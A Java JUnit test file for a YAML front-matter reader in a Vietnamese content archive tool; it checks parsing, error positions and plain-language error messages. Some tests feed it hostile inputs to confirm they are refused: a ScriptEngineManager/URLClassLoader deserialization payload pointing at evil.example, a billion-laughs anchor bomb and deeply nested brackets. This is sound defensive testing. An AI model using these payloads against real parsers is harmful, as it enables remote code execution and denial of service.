package vn.gazette.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import vn.gazette.problem.Problem;
import vn.gazette.problem.Problems;
import vn.gazette.problem.SourcePosition;

class YamlReaderTest {

    private static final Path BASE = Path.of("/archive").toAbsolutePath();
    private static final Path FILE = BASE.resolve("content/articles/bai.md");

    private final Problems problems = new Problems();
    private final YamlReader reader = new YamlReader("content");

    private Optional<YamlNode> read(String text) {
        return read(text, 1);
    }

    private Optional<YamlNode> read(String text, int firstLine) {
        return reader.read(text, FILE, firstLine, problems);
    }

    private YamlNode.Mapping mapping(String text) {
        Optional<YamlNode> node = read(text);
        assertThat(messages()).isEmpty();
        return (YamlNode.Mapping) node.orElseThrow();
    }

    private static String text(YamlNode node) {
        return ((YamlNode.Scalar) node).value();
    }

    private List<String> messages() {
        return problems.sorted().stream().map(p -> p.format(BASE)).toList();
    }

    /** Counts instances, to prove that a YAML tag naming this class never creates one. */
    public static final class Trap {
        static final AtomicInteger MADE = new AtomicInteger();

        public Trap() {
            MADE.incrementAndGet();
        }

        public Trap(String ignored) {
            MADE.incrementAndGet();
        }
    }

    @Test
    void readsAMappingInTheOrderWritten() {
        YamlNode.Mapping map = mapping("""
                title: Hội nghị tập huấn
                tags: [tập huấn, "Đồng Đăng"]
                date: 2023-09-22
                """);
        assertThat(map.keys()).containsExactly("title", "tags", "date");
        assertThat(text(map.get("title").orElseThrow())).isEqualTo("Hội nghị tập huấn");
        YamlNode.Sequence tags = (YamlNode.Sequence) map.get("tags").orElseThrow();
        assertThat(tags.items()).extracting(YamlReaderTest::text).containsExactly("tập huấn", "Đồng Đăng");
        assertThat(map.get("missing")).isEmpty();
    }

    @Test
    void givesOneBasedPositionsOfKeysAndValues() {
        YamlNode.Mapping map = mapping("""
                title: A
                tags:
                  - x
                  - y
                """);
        assertThat(map.position()).isEqualTo(SourcePosition.of(FILE, 1, 1));
        assertThat(map.entry("tags").orElseThrow().key().position()).isEqualTo(SourcePosition.of(FILE, 2, 1));
        YamlNode.Sequence tags = (YamlNode.Sequence) map.get("tags").orElseThrow();
        assertThat(tags.items()).extracting(YamlNode::position).containsExactly(SourcePosition.of(FILE, 3, 5),
                SourcePosition.of(FILE, 4, 5));
        assertThat(map.get("title").orElseThrow().position()).isEqualTo(SourcePosition.of(FILE, 1, 8));
    }

    @Test
    void addsTheFirstLineOffsetToPositions() {
        YamlNode.Mapping map = (YamlNode.Mapping) read("""
                title: A
                date: 2023-09-22
                """, 2).orElseThrow();
        assertThat(map.position()).isEqualTo(SourcePosition.of(FILE, 2, 1));
        assertThat(map.get("date").orElseThrow().position()).isEqualTo(SourcePosition.of(FILE, 3, 7));
    }

    @Test
    void keepsYaml11GuessesAsText() {
        YamlNode.Mapping map = mapping("""
                draft: yes
                hidden: off
                slug: 0123
                hex: 0x1F
                duration: 1:30
                date: 2023-02-30
                time: 2023-09-22 23:30:00
                ratio: 1e3
                nothing: .nan
                """);
        assertThat(map.entries()).extracting(e -> text(e.value())).containsExactly("yes", "off", "0123", "0x1F", "1:30",
                "2023-02-30", "2023-09-22 23:30:00", "1e3", ".nan");
        assertThat(map.entries()).allMatch(e -> e.value() instanceof YamlNode.Scalar s && s.plain());
    }

    @Test
    void tellsQuotedTextFromAnEmptyValue() {
        YamlNode.Mapping map = mapping("""
                a:
                b: ~
                c: null
                d: "null"
                e: ''
                f: x
                """);
        assertThat(map.entries()).extracting(e -> ((YamlNode.Scalar) e.value()).isNull()).containsExactly(true, true,
                true, false, false, false);
    }

    @Test
    void readsStandardTagsAsPlainText() {
        YamlNode.Mapping map = mapping("""
                a: !!int 12
                b: !!binary aGVsbG8=
                c: !!str yes
                d: !local x
                """);
        assertThat(map.entries()).extracting(e -> text(e.value())).containsExactly("12", "aGVsbG8=", "yes", "x");
    }

    @Test
    void neverConstructsTheClassAGlobalTagNames() {
        Optional<YamlNode> node = read("""
                title: A
                x: !!vn.gazette.config.YamlReaderTest$Trap [boom]
                """);
        assertThat(node).isEmpty();
        assertThat(Trap.MADE).hasValue(0);
        assertThat(messages()).containsExactly("content/articles/bai.md:2:4: error: YAML type tags such as "
                + "!!vn.gazette.config.YamlReaderTest$Trap are not allowed: write the plain value");
    }

    @Test
    void refusesTheScriptEngineManagerPayload() {
        Optional<YamlNode> node = read("""
                title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]
                """);
        assertThat(node).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:1:8: error: YAML type tags such as "
                + "!!javax.script.ScriptEngineManager are not allowed: write the plain value");
    }

    @Test
    void refusesAnAnchor() {
        assertThat(read("""
                title: A
                base: &b Hà Nội
                """)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:2:7: error: anchors and aliases (& and *) are "
                + "not allowed here: write the value out in full");
    }

    @Test
    void refusesAnAliasWithoutAnAnchor() {
        assertThat(read("place: *somewhere\n")).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:1:8: error: anchors and aliases (& and *) are "
                + "not allowed here: write the value out in full");
    }

    @Test
    void refusesASelfReferencingListInsteadOfOverflowingTheStack() {
        assertThat(read("tags: &t [a, *t]\n", 2)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:2:7: error: anchors and aliases (& and *) are "
                + "not allowed here: write the value out in full");
    }

    @Test
    void refusesAMergeKey() {
        assertThat(read("""
                defaults: &d {province: Lạng Sơn}
                place:
                  <<: *d
                """)).isEmpty();
        assertThat(problems.sorted()).extracting(p -> p.where().line(), p -> p.where().column())
                .containsExactly(tuple(1, 11));
    }

    @Test
    void refusesABillionLaughsDocumentAtItsFirstAnchor() {
        assertThat(read("""
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                """)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:1:4: error: anchors and aliases (& and *) are "
                + "not allowed here: write the value out in full");
    }

    @Test
    void reportsADuplicateKeyAtTheSecondKeyNamingTheFirstLine() {
        assertThat(read("""
                title: A
                date: 2023-09-22
                title: B
                """, 2)).isEmpty();
        assertThat(messages()).containsExactly(
                "content/articles/bai.md:4:1: error: duplicate key 'title' (first written on line 2): keep only one");
        assertThat(problems.sorted().get(0).stage()).isEqualTo("content");
    }

    @Test
    void reportsADuplicateKeyInsideANestedMapping() {
        assertThat(read("""
                conference:
                  kind: training
                  place: Lạng Sơn
                  kind: online
                """)).isEmpty();
        assertThat(messages()).containsExactly(
                "content/articles/bai.md:4:3: error: duplicate key 'kind' (first written on line 2): keep only one");
    }

    @Test
    void treatsAQuotedKeyAsTheSameKey() {
        assertThat(read("""
                title: A
                "title": B
                """)).isEmpty();
        assertThat(messages()).containsExactly(
                "content/articles/bai.md:2:1: error: duplicate key 'title' (first written on line 1): keep only one");
    }

    @Test
    void reportsEveryDuplicateKey() {
        assertThat(read("""
                a: 1
                b: 2
                a: 3
                b: 4
                """)).isEmpty();
        assertThat(messages()).containsExactly(
                "content/articles/bai.md:3:1: error: duplicate key 'a' (first written on line 1): keep only one",
                "content/articles/bai.md:4:1: error: duplicate key 'b' (first written on line 2): keep only one");
    }

    @Test
    void refusesAKeyThatIsNotPlainText() {
        assertThat(read("[a, b]: 1\n")).isEmpty();
        assertThat(messages()).containsExactly(
                "content/articles/bai.md:1:1: error: a key must be a plain name, not a list");
    }

    @Test
    void readsNestingUpToMaxDepth() {
        assertThat(YamlReader.MAX_DEPTH).isEqualTo(12);
        Optional<YamlNode> node = read("[".repeat(12) + "x" + "]".repeat(12));
        assertThat(messages()).isEmpty();
        YamlNode inner = node.orElseThrow();
        for (int depth = 0; depth < 12; depth++) {
            inner = ((YamlNode.Sequence) inner).items().get(0);
        }
        assertThat(text(inner)).isEqualTo("x");
    }

    @Test
    void refusesNestingDeeperThanMaxDepth() {
        assertThat(read("a: " + "[".repeat(12) + "x" + "]".repeat(12), 2)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:2:1: error: YAML is nested more than 12 levels deep: "
                + "put fewer lists and blocks inside each other");
    }

    @Test
    void refusesDeepBlockNesting() {
        StringBuilder text = new StringBuilder();
        for (int depth = 0; depth < 13; depth++) {
            text.append("  ".repeat(depth)).append("k").append(depth).append(":\n");
        }
        text.append("  ".repeat(13)).append("x\n");
        assertThat(read(text.toString())).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:1:1: error: YAML is nested more than 12 levels deep: "
                + "put fewer lists and blocks inside each other");
    }

    @Test
    void refusesAThousandOpenBracketsWithoutOverflowingTheStack() {
        assertThat(read("a: " + "[".repeat(1000))).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:1:1: error: YAML is nested more than 12 levels deep: "
                + "put fewer lists and blocks inside each other");
    }

    @Test
    void explainsThatAValueWithAColonNeedsQuotes() {
        assertThat(read("title: a: b\n", 2)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:2:9: error: not valid YAML: mapping values are "
                + "not allowed here (a value that contains ': ' must be put in quotes)");
    }

    @Test
    void explainsAMissingClosingQuote() {
        assertThat(read("""
                title: "Hội nghị
                date: 2023-09-22
                """)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:1:8: error: not valid YAML: found unexpected end "
                + "of stream (a closing quote is missing)");
    }

    @Test
    void reportsATabIndentAtItsLine() {
        assertThat(read("conference:\n\tkind: online\n")).isEmpty();
        Problem problem = problems.sorted().get(0);
        assertThat(problem.where()).isEqualTo(SourcePosition.of(FILE, 2, 1));
        assertThat(problem.message()).startsWith("not valid YAML: found character '\\t(TAB)'");
    }

    @Test
    void explainsATabInPlainWords() {
        assertThat(read("conference:\n\tkind: online\n")).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:2:1: error: not valid YAML: found character "
                + "'\\t(TAB)' that cannot start any token (indent with spaces, not tabs)");
    }

    @Test
    void reportsALineWithoutAColonAtThatLine() {
        assertThat(read("title: A\nđây là dòng\ndate: 2023-09-22\n", 2)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:3:1: error: not valid YAML: could not find "
                + "expected ':' (write each line as 'key: value')");
    }

    @Test
    void reportsAnUnclosedBracketAtItsOpening() {
        assertThat(read("tags: [a, b\ndate: 2023-09-22\n", 2)).isEmpty();
        assertThat(read("params: {a: b\nx: y\n", 2)).isEmpty();
        assertThat(messages()).containsExactly(
                "content/articles/bai.md:2:7: error: not valid YAML: expected ',' or ']', but got : (a closing ] is "
                        + "missing)",
                "content/articles/bai.md:2:9: error: not valid YAML: expected ',' or '}', but got : (a closing } is "
                        + "missing)");
    }

    @Test
    void explainsTextAfterAClosingQuote() {
        assertThat(read("title: 'Hội nghị' tập huấn\n", 2)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:2:19: error: not valid YAML: expected "
                + "<block end>, but found '<scalar>' (nothing may follow a closing quote or bracket: put the whole value "
                + "in quotes, and write '' for a ' inside '...')");
    }

    @Test
    void explainsAKeyIndentedLessThanItsBlock() {
        assertThat(read("conference:\n  kind: training\n start: 2023-09-22\n", 2)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:4:2: error: not valid YAML: expected "
                + "<block end>, but found '<block mapping start>' (this line is indented differently from the lines "
                + "above: line it up with the other keys of its block)");
    }

    @Test
    void explainsAnUnknownEscapeInDoubleQuotes() {
        assertThat(read("title: \"Tài liệu\\q\"\n", 2)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:2:18: error: not valid YAML: found unknown "
                + "escape character q(113) (inside \"...\" write a backslash as \\\\, or put the value in '...' "
                + "instead)");
    }

    @Test
    void explainsASecondDocument() {
        assertThat(read("title: A\n---\ntitle: B\n")).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:2:1: error: not valid YAML: found a second "
                + "document (remove this '---' line)");
    }

    @Test
    void explainsACharacterThatCannotStartAValue() {
        assertThat(read("title: @Sở TT&TT\n", 2)).isEmpty();
        assertThat(messages()).containsExactly("content/articles/bai.md:2:8: error: not valid YAML: found character "
                + "'@' that cannot start any token (a value that starts with @ must be put in quotes)");
    }

    @Test
    void refusesASecondDocument() {
        assertThat(read("title: A\n---\ntitle: B\n")).isEmpty();
        assertThat(problems.sorted()).extracting(Problem::where).containsExactly(SourcePosition.of(FILE, 2, 1));
    }

    @Test
    void readsNothingFromEmptyText() {
        assertThat(read("")).isEmpty();
        assertThat(read("# only a comment\n\n")).isEmpty();
        assertThat(messages()).isEmpty();
    }

    @Test
    void readsATopLevelListOrValue() {
        assertThat(read("- a\n- b\n")).get().isInstanceOf(YamlNode.Sequence.class);
        assertThat(read("just text\n")).get().extracting(YamlReaderTest::text).isEqualTo("just text");
        assertThat(messages()).isEmpty();
    }

    @Test
    void reportsInTheStageItWasMadeFor() {
        new YamlReader("config").read("a: &x 1\n", FILE, 1, problems);
        assertThat(problems.sorted()).extracting(Problem::stage).containsExactly("config");
    }
}
